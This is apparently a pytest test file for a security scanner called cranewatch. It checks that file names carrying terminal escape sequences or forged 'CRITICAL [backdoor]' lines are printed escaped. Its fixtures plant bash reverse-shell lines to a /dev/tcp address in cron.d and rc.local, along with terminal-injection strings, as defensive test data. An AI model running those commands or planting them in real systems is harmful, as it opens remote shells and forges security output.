"""Text output shows what the attacker wrote and never obeys it (issue 19, cases 9 and 11).

Before: file names were printed raw by ``scan-image``: an ESC reached the terminal, and a
newline in a name forged a ``CRITICAL [backdoor]`` line. And a reader closing the pipe
(``analyze X | head -1``) turned the exit code 3 of a cut capture into 0.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.commands.gate import format_decision
from cranewatch.gate import GateDecision, GatePolicy, Reason
from cranewatch.report.terminal import printable, printable_lines

REPO = Path(__file__).resolve().parents[1]
LAB = REPO / "src" / "cranewatch" / "data" / "lab"
FORGED = "CRITICAL [backdoor] planted.sh forged"  # no "/": it is one file name
HOSTILE = f"x\x1b]0;owned\x07\x1b[2J\r\n{FORGED}"


@pytest.mark.parametrize(("raw", "shown"), [
    ("plain → text × 3 …", "plain → text × 3 …"),
    ("a\nb\rc\td", "a\\nb\\rc\\td"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("\x9b31m", "\\x9b31m"),  # C1 CSI: one byte starts a sequence on some terminals
    ("\x00\x7f", "\\x00\\x7f"),
    ("evil\u202etxt.exe", "evil\\u202etxt.exe"),  # bidirectional override
    ("line\u2028sep", "line\\u2028sep"),
])
def test_printable(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_printable_lines_keeps_only_the_renderers_breaks() -> None:
    assert printable_lines(["one", "two\nCRITICAL"]) == "one\ntwo\\nCRITICAL\n"


def assert_not_forged(out: str) -> None:
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert not any(line.startswith("CRITICAL [backdoor]") for line in out.splitlines())
    assert "\\nCRITICAL [backdoor] planted.sh forged" in out  # shown, escaped


def test_scan_image_text_escapes_file_names(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    tree = tmp_path / "root"
    cron = tree / "etc" / "cron.d"
    cron.mkdir(parents=True)
    (cron / HOSTILE).write_text("* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    main(["scan-image", str(tree)])
    out = capsysbinary.readouterr().out.decode()
    assert "reverse shell" in out  # the finding itself is reported
    assert_not_forged(out)


def test_analyze_text_escapes_input_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capture = tmp_path / f"{HOSTILE}.pcap"
    shutil.copy(LAB / "normal" / "crane-lan.pcap", capture)
    assert main(["analyze", str(capture)]) == 0
    assert_not_forged(capsys.readouterr().out)


def test_gate_text_escapes_reasons() -> None:
    reason = Reason(kind="blocking-finding", text=f"a finding in {HOSTILE}", finding="f1", source="image scan")
    decision = GateDecision(crane="STS-07", decision="rejected", reasons=(reason,), findings=(), runs=(),
                            policy=GatePolicy())
    assert_not_forged(format_decision(decision))


def test_fleet_show_escapes_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = str(tmp_path / "fleet.db")
    assert main(["fleet", "add", "STS-66", "--db", db, "--maker", HOSTILE, "--reason", HOSTILE, "--by", "t"]) == 0
    capsys.readouterr()
    assert main(["fleet", "show", "STS-66", "--db", db]) == 0
    assert_not_forged(capsys.readouterr().out)
    assert main(["fleet", "list", "--db", db]) == 0
    assert "\x1b" not in capsys.readouterr().out


def run_into_closed_pipe(*args: str) -> subprocess.CompletedProcess[str]:
    """Run the CLI with its stdout a pipe whose reader has already gone (``| head -0``)."""
    read, write = os.pipe()
    os.close(read)
    try:
        return subprocess.run([sys.executable, "-m", "cranewatch", *args], stdout=write,
                              stderr=subprocess.PIPE, text=True, timeout=120,
                              env={**os.environ, "PYTHONPATH": str(REPO / "src")})
    finally:
        os.close(write)


def test_broken_pipe_keeps_the_exit_code_of_a_cut_capture(tmp_path: Path) -> None:
    cut = tmp_path / "cut.pcap"
    cut.write_bytes((LAB / "normal" / "crane-lan.pcap").read_bytes()[:30_000])
    for fmt in ("text", "jsonl"):
        done = run_into_closed_pipe("analyze", str(cut), "--format", fmt)
        assert done.returncode == 3, done.stderr  # before: 0
        assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
        assert "capture cut short" in done.stderr


def test_broken_pipe_on_a_clean_run_and_binary_output(tmp_path: Path) -> None:
    done = run_into_closed_pipe("analyze", str(LAB / "normal" / "crane-lan.pcap"))
    assert done.returncode == 0 and done.stderr == ""
    tree = tmp_path / "root"
    (tree / "etc").mkdir(parents=True)
    (tree / "etc" / "rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    done = run_into_closed_pipe("scan-image", str(tree), "--fail-on", "high")  # writes sys.stdout.buffer
    assert done.returncode == 1 and "Traceback" not in done.stderr and "Exception ignored" not in done.stderr


def test_baseline_summary_escapes_names_from_the_wire(tmp_path: Path) -> None:
    from cranewatch.baseline import learn_baseline, summary_text
    from detect_capture import Crane, dns_query, new_capture

    crane = Crane()
    cap = new_capture(crane)
    cap.udp(1_800_000_000.0, crane.ocr, crane.dns, 50000, 53, dns_query(7, "a\x1b[2J\rb.example"))
    text = summary_text(learn_baseline([cap.write(tmp_path / "dns.pcap")], None))
    assert "\x1b" not in text and "\r" not in text
    assert "a\\x1b[2j\\rb.example" in text  # names are kept lower-case


def test_a_json_lines_record_is_one_line_for_every_line_splitter() -> None:
    # an OpenVPN detail with a raw NEL byte once split a record in two (str.splitlines breaks
    # on U+0085, U+2028, U+2029 and the file/group/record separators; JSON allows them raw)
    import json

    from cranewatch.report.jsonl import json_line

    value = "vpn\x85detail\u2028and\u2029more\x1c\x1d\x1e é"
    line = json_line({"type": "finding", "title": value})
    assert line.endswith("\n")
    assert len(line.splitlines()) == 1
    assert json.loads(line) == {"type": "finding", "title": value}
    assert "é" in line  # UTF-8 text stays readable
